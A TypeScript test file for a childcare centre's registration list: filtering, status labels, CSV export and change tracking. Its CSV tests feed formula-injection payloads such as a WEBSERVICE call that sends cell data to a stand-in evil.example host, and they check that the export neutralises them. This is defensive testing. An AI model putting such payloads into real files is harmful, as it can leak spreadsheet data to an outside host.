import { describe, expect, it, vi } from 'vitest'
import type { StoredKid } from '#shared/records/kid-record'
import type { Registration } from '#shared/records/registration-record'
import {
  changeSinceDecision,
  csvField,
  filterRows,
  NO_FILTER,
  registrationRows,
  registrationsCsv,
  stateLabel,
} from './registrations-view'

const kid = (id: string, overrides: Partial<StoredKid> = {}): StoredKid => ({
  id,
  kidName: 'Amara Obi',
  kidAge: '4',
  kidBirthMonth: '',
  kidGender: 'Female',
  disability: false,
  parentName: 'Ngozi Obi',
  parentAge: '34',
  parentPhone: '+234 802 555 0101',
  address: '12 Palm Close\nUyo',
  plan: 'Monthly',
  imgUrls: ['images/u-a.jpg-1'],
  userRef: 'u',
  savedAt: 1_000,
  ...overrides,
})

const confirmed: Registration = {
  state: 'confirmed',
  startDate: '2027-01-04',
  replyBy: null,
  offerId: null,
  waitingSince: null,
  reason: null,
  lapsedOn: null,
  askId: null,
  askedAt: null,
  missing: [],
  decidedBy: 's',
  decidedAt: 1,
  decidedOn: null,
}

describe('registrations view', () => {
  const rows = registrationRows(
    [
      kid('a'),
      kid('b', { kidName: 'Zoë Bell', plan: 'Weekly', savedAt: 3_000 }),
      kid('c', { savedAt: 2_000 }),
    ],
    new Map([['a', confirmed]]),
  )

  it('puts the newest registration first, with its decision', () => {
    expect(rows.map((row) => row.kid.id)).toEqual(['b', 'c', 'a'])
    expect(rows[2]?.registration).toEqual(confirmed)
  })

  it('filters by plan and state and searches child and parent names, accents aside', () => {
    expect(filterRows(rows, { ...NO_FILTER, plan: 'Weekly' }).map((row) => row.kid.id)).toEqual(['b'])
    expect(filterRows(rows, { ...NO_FILTER, state: 'confirmed' }).map((row) => row.kid.id)).toEqual(['a'])
    expect(filterRows(rows, { ...NO_FILTER, state: 'new' }).map((row) => row.kid.id)).toEqual(['b', 'c'])
    expect(filterRows(rows, { ...NO_FILTER, search: ' zoe ' }).map((row) => row.kid.id)).toEqual(['b'])
    expect(filterRows(rows, { ...NO_FILTER, search: 'ngozi' })).toHaveLength(3)
    expect(filterRows(rows, { ...NO_FILTER, state: 'waitlisted' })).toEqual([])
  })

  it('an offer, its acceptance and a decline read as states, filter as states and export so', () => {
    const offered: Registration = {
      ...confirmed,
      state: 'offered',
      startDate: '2027-02-01',
      replyBy: '2099-01-25',
      offerId: 'o'.repeat(20),
    }
    const declined: Registration = { ...confirmed, state: 'declined', startDate: null, reason: 'Full' }
    const rows = registrationRows(
      [kid('a'), kid('b', { savedAt: 900 }), kid('c', { savedAt: 800 })],
      new Map([
        ['a', offered],
        ['b', offered],
        ['c', declined],
      ]),
      new Map(),
      new Map([['b', 'accepted' as const]]),
    )
    expect(rows.map(stateLabel)).toEqual([
      'Offered from 1 February 2027, reply by 25 January 2099',
      'Accepted, from 1 February 2027',
      'Declined by the centre',
    ])
    expect(filterRows(rows, { ...NO_FILTER, state: 'accepted' }).map((row) => row.kid.id)).toEqual(['b'])
    const lines = registrationsCsv(rows).split('\r\n')
    expect(lines[1]).toContain('"Place offered","1 February 2027"')
    expect(lines[2]).toContain('"Offer accepted","1 February 2027"')
    expect(lines[3]).toMatch(/"Declined by the centre",""$/)
  })

  it("exports CSV in the screen's words, the centre's dates, every field quoted", () => {
    const csv = registrationsCsv(
      registrationRows(
        [kid('a', { savedAt: Date.UTC(2026, 10, 26, 8, 14) })],
        new Map([['a', confirmed]]),
        new Map([['u', 'ngozi@example.com']]),
      ),
    )
    const [header, line] = csv.split('\r\n')
    expect(header).toBe(
      '"Child name","Age","Gender","Disability","Plan","Parent name","Parent e-mail","Parent phone","Address","Registered","State","Start date"',
    )
    // 09:14 in Uyo (UTC+1), whatever the machine's time zone; the state as the screen says it.
    expect(line).toBe(
      `"Amara Obi","4","Female","No","Monthly","Ngozi Obi","ngozi@example.com","'+234 802 555 0101","12 Palm Close\nUyo","26 Nov 2026, 09:14","Place confirmed","4 January 2027"`,
    )
    const fresh = registrationsCsv(registrationRows([kid('b', { parentPhone: '08031234567' })], new Map()))
    expect(fresh).toContain(`"'08031234567","12 Palm Close\nUyo"`)
    expect(fresh).toContain('"New",""\r\n')
  })

  it('guards every way a field could start a formula', () => {
    for (const value of ['=1+1', '+1', '-1', '@SUM(A1)', '  =1', '＝1', '＋1', '－1', '＠x', '\u00A0=1'])
      expect(csvField(value), JSON.stringify(value)).toBe(`"'${value}"`)
    // A tab or carriage return first: guarded, and so is what follows it (a cell of its own where the
    // file is opened with that separator).
    expect(csvField('\t=1')).toBe(`"'\t'=1"`)
    expect(csvField('\rx')).toBe(`"'\rx"`)
    // Controls: ordinary text is only quoted.
    expect(csvField('plain')).toBe('"plain"')
    expect(csvField('a=b')).toBe('"a=b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('4')).toBe('"4"')
    expect(csvField('08031234567', { asText: true })).toBe(`"'08031234567"`)
  })

  it('no cell starts a formula whether the text is opened as comma- or semicolon-separated', () => {
    const hostile = kid('h', {
      kidName: 'Amara;=WEBSERVICE("http://evil.example/"&A1)',
      parentName: ' =HYPERLINK("http://evil.example")',
      parentPhone: '+234 802 555 0101',
      address: '1 Road;-2+3\n@SUM(1)',
      kidAge: '＝1+1',
    })
    const csv = registrationsCsv(registrationRows([hostile], new Map()))
    for (const separator of [',', ';']) {
      const cells = openAs(csv, separator).flat()
      expect(cells.length).toBeGreaterThan(0)
      for (const cell of cells)
        expect(cell, `${separator}: ${cell}`).not.toMatch(/^\p{Zs}*[=+\-@＝＋－＠\t\r]/u)
    }
    // Opened as comma-separated, each field is its own cell, guarded where a ';' could start one.
    const [, row] = openAs(csv, ',')
    expect(row?.[0]).toBe('Amara;\'=WEBSERVICE("http://evil.example/"&A1)')
    expect(row?.[8]).toBe("1 Road;'-2+3\n'@SUM(1)")
    expect(row?.[5]).toBe('\' =HYPERLINK("http://evil.example")')
  })
})

describe('a decision names the record it was decided on', () => {
  const decidedKid = kid('a', { savedAt: 5 })
  const { id: _id, savedAt: _savedAt, userRef: _userRef, ...fields } = decidedKid
  const decision: Registration = { ...confirmed, decidedAt: 7, decidedOn: { savedAt: 5, fields } }

  it('says nothing while the record is the one decided on, or when no record was named', () => {
    expect(changeSinceDecision({ kid: decidedKid, registration: decision, parentEmail: null })).toBeNull()
    expect(changeSinceDecision({ kid: decidedKid, registration: null, parentEmail: null })).toBeNull()
    expect(
      changeSinceDecision({ kid: { ...decidedKid, savedAt: 9 }, registration: confirmed, parentEmail: null }),
    ).toBeNull()
  })

  it('lists the fields changed since, by their labels; a save without changes lists none', () => {
    const changed = { ...decidedKid, savedAt: 9, kidAge: '5', imgUrls: ['images/u/b.jpg-x'] }
    expect(changeSinceDecision({ kid: changed, registration: decision, parentEmail: null })).toEqual({
      decidedAt: 7,
      fields: ['Child Age', 'Photos'],
    })
    expect(
      changeSinceDecision({ kid: { ...decidedKid, savedAt: 9 }, registration: decision, parentEmail: null }),
    ).toEqual({ decidedAt: 7, fields: [] })
  })
})

/**
 * Reads CSV text as a spreadsheet does with the given separator: a cell that starts with '"' runs to the
 * closing quote ('""' is one quote), and whatever follows up to the next separator is added as written.
 */
function openAs(text: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let started = false
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] as string
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"' && !started) {
      quoted = true
      started = true
    } else if (char === separator) {
      row.push(cell)
      cell = ''
      started = false
    } else if (char === '\r' && text[at + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      started = false
      at += 1
    } else {
      cell += char
      started = true
    }
  }
  return rows
}

describe('the date formats of a card', () => {
  it('are all made by prepareDateFormats, so the first page makes none', async () => {
    vi.resetModules()
    const view = await import('./registrations-view')
    const record = await import('#shared/records/registration-record')
    const Real = Intl.DateTimeFormat
    let made = 0
    Intl.DateTimeFormat = new Proxy(Real, {
      construct(target, args) {
        made += 1
        return Reflect.construct(target, args)
      },
    })
    try {
      view.prepareDateFormats()
      const prepared = made
      expect(prepared).toBe(4)
      expect(view.formatWhen(Date.UTC(2026, 10, 27, 8, 14))).toBe('27 Nov 2026, 09:14')
      expect(view.formatDay(Date.UTC(2026, 10, 27, 8, 14))).toBe('27 November 2026')
      expect(view.centreToday(new Date(Date.UTC(2026, 10, 27, 23, 30)))).toBe('2026-11-28')
      expect(record.formatStartDate('2027-01-04')).toBe('4 January 2027')
      expect(made).toBe(prepared)
    } finally {
      Intl.DateTimeFormat = Real
    }
  })
})
